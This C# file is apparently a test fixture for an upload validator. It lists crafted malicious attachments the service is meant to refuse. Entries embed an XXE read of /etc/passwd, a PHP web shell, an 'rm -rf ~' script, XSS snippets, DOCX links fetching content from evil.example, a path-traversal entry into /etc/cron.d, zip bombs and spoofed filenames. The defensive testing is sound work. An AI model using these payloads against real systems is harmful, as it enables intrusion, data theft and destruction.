using System.Text;
using static Concentric.Tests.Serve.Attachments.Made;

namespace Concentric.Tests.Serve.Attachments;

/// <summary>Files that must be refused, each with the type that its sender claims.</summary>
internal static class BadFiles
{
    private static readonly byte[] Exe = [.. "MZ"u8, 0x90, 0, .. new byte[200]];
    private static readonly byte[] Svg = Utf8("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>");
    private static readonly byte[] Html = Utf8("<!DOCTYPE html><script>alert(1)</script>");
    private static readonly byte[] Gif = Utf8("GIF89a/*\x01\x01\x01*/=1;alert(1)//");
    private static readonly byte[] Ole = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]];

    private static byte[] Links(string type, string target) => Utf8($"<Relationships><Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>");

    private static readonly byte[] Zeros = Deflate(new byte[30_000_000]);

    // 30 MB in each, packed twice.
    private static readonly byte[] Heavy = Docx(("word/zeros.xml", new byte[30_000_000]));

    public static readonly Dictionary<string, (string Name, string? Type, byte[] Bytes)> All = new()
    {
        ["program as PDF"] = ("invoice.pdf", "application/pdf", Exe),
        ["program as JPG"] = ("photo.jpg", "image/jpeg", Exe),
        ["program as DOCX"] = ("letter.docx", null, Exe),
        ["program as text"] = ("notes.txt", "text/plain", Exe),
        ["program by name"] = ("setup.exe", "application/pdf", Pdf()),
        ["page by name"] = ("page.html", "text/html", Html),
        ["page as PDF"] = ("page.pdf", "application/pdf", Html),
        ["page as text"] = ("page.txt", "text/plain", Html),
        ["page as CSV behind blanks"] = ("list.csv", "text/csv", Join(Utf8("\n\n   \t"), Html)),
        ["SVG by name"] = ("drawing.svg", "image/svg+xml", Svg),
        ["SVG as PNG"] = ("drawing.png", "image/png", Svg),
        ["SVG as text"] = ("drawing.txt", "text/plain", Svg),
        ["XML as text"] = ("data.txt", null, Utf8("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>")),
        ["script of PHP as text"] = ("a.txt", null, Utf8("<?php system($_GET['c']); ?>")),
        ["script of a shell as text"] = ("a.txt", null, Utf8("#!/bin/sh\nrm -rf ~\n")),
        ["RTF as text"] = ("a.txt", null, Utf8("{\\rtf1\\object\\objdata 0105}")),
        ["picture that is a script too"] = ("a.txt", "text/plain", Gif),
        ["GIF by name"] = ("a.gif", "image/gif", Gif),
        ["GIF as PNG"] = ("a.png", "image/png", Gif),
        ["WEBP by name"] = ("a.webp", "image/webp", Utf8("RIFF____WEBPVP8 ")),
        ["HEIC by name"] = ("IMG_0001.HEIC", "image/heic", Utf8("\0\0\0\x18" + "ftypheic")),
        ["HEIC as JPG"] = ("IMG_0001.jpg", "image/jpeg", Utf8("\0\0\0\x18" + "ftypheic")),
        ["type that does not agree"] = ("form.pdf", "text/html", Pdf()),
        ["type of a script"] = ("photo.jpg", "application/javascript", Jpeg()),
        ["no extension"] = ("invoice", "application/pdf", Pdf()),
        ["extension after NUL"] = ("invoice.pdf\0.exe", "application/pdf", Pdf()),
        ["NUL before the extension"] = ("shell.php\0.pdf", "application/pdf", Pdf()),
        ["program inside the name"] = ("invoice.exe.pdf", "application/pdf", Pdf()),
        ["script inside the name"] = ("photo.php.jpg", "image/jpeg", Jpeg()),
        ["name that reads backwards"] = ("photo\u202Egpj.exe", "image/jpeg", Jpeg()),
        ["extension behind dots"] = ("photo.exe...", null, Jpeg()),
        ["stream of another name"] = ("photo.jpg:evil.exe", null, Jpeg()),
        ["PDF that breaks off"] = ("a.pdf", "application/pdf", Pdf()[..60]),
        ["PDF behind other bytes"] = ("a.pdf", "application/pdf", Join(Utf8("garbage\n"), Pdf())),
        ["PDF that is an archive too"] = ("a.pdf", "application/pdf", Join(Pdf(), Zip(("a.txt", Utf8("a"))))),
        ["PDF that is an archive with a tail"] = ("a.pdf", "application/pdf", Join(Pdf(), Zip(("a.txt", Utf8("a"))), Utf8("\n%%EOF\n"))),
        ["PDF that is a page too"] = ("a.pdf", "application/pdf", Pdf(before: "<html><script>alert(1)</script>\n")),
        ["PDF with a page behind it"] = ("a.pdf", "application/pdf", Pdf(after: "<script>alert(1)</script>")),
        ["JPG that breaks off"] = ("a.jpg", "image/jpeg", Jpeg()[..^2]),
        ["JPG with an archive behind it"] = ("a.jpg", "image/jpeg", Jpeg(after: Zip(("a.exe", Exe)))),
        ["JPG with a page behind it"] = ("a.jpg", "image/jpeg", Jpeg(after: Html)),
        ["JPG with a program behind it"] = ("a.jpg", "image/jpeg", Jpeg(after: Exe)),
        ["JPG without a picture"] = ("a.jpg", "image/jpeg", [0xFF, 0xD8, 0xFF, 0xD9]),
        ["JPG of billions of points"] = ("a.jpg", "image/jpeg", Jpeg(width: 65535, height: 65535)),
        ["JPG with a script in its table"] = ("a.jpg", "image/jpeg", Jpeg(before: Segment(0xDB, [0], new byte[64], Utf8("<script>alert(1)</script>")))),
        ["JPG whose segment is too long"] = ("a.jpg", "image/jpeg", [0xFF, 0xD8, 0xFF, 0xE1, 0xFF, 0xFF, 1, 2, 3]),
        ["PNG that breaks off"] = ("a.png", "image/png", Png()[..^6]),
        ["PNG with a wrong sum"] = ("a.png", "image/png", [.. Png()[..^1], 0]),
        ["PNG of billions of points"] = ("a.png", "image/png", Join(PngSignature, Header(100_000, 100_000), Chunk("IDAT", [1]), Chunk("IEND", []))),
        ["PNG without data"] = ("a.png", "image/png", Join(PngSignature, Header(), Chunk("IEND", []))),
        ["PNG with an unknown part"] = ("a.png", "image/png", Png(before: Chunk("EVIL", [1, 2]))),
        ["PNG with an archive behind it"] = ("a.png", "image/png", Png(after: Zip(("a.exe", Exe)))),
        ["DOCX of before 2007"] = ("a.docx", null, Ole),
        ["DOCX with a password"] = ("a.docx", null, Join(Ole, Encoding.Unicode.GetBytes("EncryptedPackage"))),
        ["DOCX that is some archive"] = ("a.docx", null, Zip(("a.txt", Utf8("a")))),
        ["DOCX that is an XLSX"] = ("a.docx", null, Xlsx()),
        ["XLSX that is a DOCX"] = ("a.xlsx", null, Docx()),
        ["DOCX with macros"] = ("a.docx", null, Docx(("word/vbaProject.bin", Utf8("macro")))),
        ["DOCX of a type with macros"] = ("a.docx", null, Zip(("[Content_Types].xml", Utf8("<Types ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>")), ("_rels/.rels", Utf8("<a/>")), ("word/document.xml", Utf8("<a/>")))),
        ["DOCX that fetches a template"] = ("a.docx", null, Docx(("word/_rels/settings.xml.rels", Links("attachedTemplate", "https://evil.example/a.dotm")))),
        ["DOCX that fetches an object over the network"] = ("a.docx", null, Docx(("word/_rels/document.xml.rels", Links("oleObject", "file://evil.example/share/a")))),
        ["DOCX with a program inside"] = ("a.docx", null, Docx(("word/embeddings/tool.exe", Exe))),
        ["DOCX with a program under another name"] = ("a.docx", null, Docx(("word/media/image1.png", Exe))),
        ["DOCX with a packed file in an object"] = ("a.docx", null, Docx(("word/embeddings/oleObject1.bin", Join(Ole, Encoding.Unicode.GetBytes("Ole10Native"))))),
        ["DOCX with an archive inside"] = ("a.docx", null, Docx(("word/inner.zip", Zip(("b.txt", Utf8("b")))))),
        ["DOCX with an archive under another name"] = ("a.docx", null, Docx(("word/media/image1.png", Zip(("b.txt", Utf8("b")))))),
        ["DOCX inside a DOCX inside a DOCX"] = ("a.docx", null, Docx(("word/embeddings/b.docx", Docx(("word/embeddings/c.docx", Docx()))))),
        ["DOCX with a way out of its folder"] = ("a.docx", null, Docx(("../../etc/cron.d/evil", Utf8("x")))),
        ["DOCX behind a program"] = ("a.docx", null, Join(Exe, Docx())),
        ["DOCX that breaks off"] = ("a.docx", null, Docx()[..^10]),
        ["DOCX that unpacks to gigabytes"] = ("a.docx", null, ZipOf(Enumerable.Range(0, 40).Select(n => ($"word/{n}.xml", Zeros, 1_000_000_000u, (ushort)8, (ushort)0)))),
        ["DOCX that says it is small"] = ("a.docx", null, ZipOf([.. DocxParts.Select(p => (p.Item1, Deflate(p.Item2), (uint)p.Item2.Length, (ushort)8, (ushort)0)), ("word/big.xml", Zeros, 100u, 8, 0)])),
        ["DOCX whose entries overlap"] = ("a.docx", null, ZipOf(Enumerable.Range(0, 50).Select(n => ("word/a.xml", Zeros, 30_000_000u, (ushort)8, (ushort)0)), overlap: true)),
        ["DOCX with a hundred thousand entries"] = ("a.docx", null, ZipOf(Enumerable.Range(0, 100_000).Select(n => ($"w/{n}", (byte[])[], 0u, (ushort)0, (ushort)0)), count: 100_000 & 0xFFFF)),
        ["DOCX with a hundred that unpack to gigabytes together"] = ("a.docx", null, Docx([.. Enumerable.Range(0, 99).Select(n => ($"word/embeddings/{n}.docx", Heavy))])),
        ["DOCX with a thousand inside"] = ("a.docx", null, Docx([.. Enumerable.Range(0, 1000).Select(n => ($"word/embeddings/{n}.docx", Docx()))])),
        ["DOCX with a locked entry"] = ("a.docx", null, ZipOf(DocxParts.Select(p => (p.Item1, p.Item2, (uint)p.Item2.Length, (ushort)0, (ushort)1)))),
        ["DOCX with one name twice"] = ("a.docx", null, Docx(("word/Document.xml", Utf8("<other/>")))),
        ["XLSX with old macros"] = ("a.xlsx", null, Xlsx(("xl/macrosheets/sheet1.xml", Utf8("<a/>")))),
        ["ODT with a password"] = ("a.odt", null, Odt("<manifest><encryption-data/></manifest>")),
        ["ODT with macros"] = ("a.odt", null, Odt("<manifest/>", ("Basic/Standard/Module1.xml", Utf8("<a/>")))),
        ["ODT that is a sheet"] = ("a.odt", null, Zip(("mimetype", Utf8("application/vnd.oasis.opendocument.spreadsheet")), ("content.xml", Utf8("<a/>")), ("META-INF/manifest.xml", Utf8("<a/>")))),
        ["text with control characters"] = ("a.txt", null, [65, 66, 0x1B, 67]),
        ["text with NUL"] = ("a.csv", "text/csv", [65, 44, 0, 66]),
        ["text that is no text"] = ("a.txt", null, [0x81, 0x8D, 0x8F, 0x90, 0x9D]),
        ["archive by name"] = ("all.zip", "application/zip", Zip(("a.txt", Utf8("a")))),
        ["old Word file by name"] = ("letter.doc", "application/msword", Ole),
        ["Word file with macros by name"] = ("letter.docm", null, Docx()),
        ["nothing"] = ("empty.pdf", "application/pdf", []),
    };
}
